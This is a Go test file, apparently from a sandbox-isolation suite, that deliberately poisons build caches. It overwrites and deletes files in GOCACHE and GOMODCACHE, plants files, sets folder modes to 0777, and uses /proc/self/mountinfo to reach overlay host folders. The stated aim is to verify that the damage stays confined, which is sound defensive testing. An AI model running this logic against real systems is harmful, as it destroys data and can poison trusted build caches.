// Attacks every build cache the run can see: rewrites each file it can open for
// writing, deletes some, plants a file in every folder, widens folder modes, and
// tries the host folders the overlay mounts name in /proc/self/mountinfo
// directly. Whatever it manages must stay inside this run (cache-probe, run
// next, checks), and the host's trusted caches must not change.
package cachepoison

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func caches() []string {
	dirs := []string{os.Getenv("GOCACHE"), os.Getenv("GOMODCACHE")}
	// The overlays' host folders, where mountinfo shows them.
	if info, err := os.ReadFile("/proc/self/mountinfo"); err == nil {
		for _, m := range regexp.MustCompile(`(?:lowerdir|upperdir)=([^,\s]+)`).FindAllStringSubmatch(string(info), -1) {
			for _, d := range strings.Split(m[1], ":") {
				dirs = append(dirs, d)
			}
		}
	}
	return dirs
}

func TestPoisonEveryCache(t *testing.T) {
	mark := os.Getenv("HOSTILE_MARK")
	rewrote, planted, removed := 0, 0, 0
	for _, root := range caches() {
		if root == "" {
			continue
		}
		n := 0
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if d.IsDir() {
				os.Chmod(path, 0o777)
				if os.WriteFile(filepath.Join(path, "planted-"+mark), []byte("planted by an earlier run"), 0o644) == nil {
					planted++
				}
				return nil
			}
			n++
			if n%7 == 0 && os.Remove(path) == nil {
				removed++
				return nil
			}
			os.Chmod(path, 0o666)
			if f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0); err == nil {
				fmt.Fprintf(f, "poisoned-by-%s", mark)
				f.Close()
				rewrote++
			}
			return nil
		})
	}
	fmt.Printf("HOSTILE-POISON rewrote=%d planted=%d removed=%d\n", rewrote, planted, removed)
}
